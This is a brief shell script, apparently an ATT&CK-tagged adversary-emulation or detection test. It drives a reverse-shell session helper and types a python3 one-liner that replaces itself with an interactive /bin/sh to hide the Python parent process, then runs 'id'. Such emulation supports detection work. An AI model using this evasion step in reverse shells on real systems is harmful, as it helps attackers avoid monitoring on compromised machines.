# python3 replaces itself with sh, so that no shell has a Python parent.
# ATT&CK: T1059.006, T1059.004
. ./session.sh
reverse_shell <<'TYPED'
python3 -c 'import os; os.execl("/bin/sh", "sh", "-i")'
id
exit
exit
TYPED
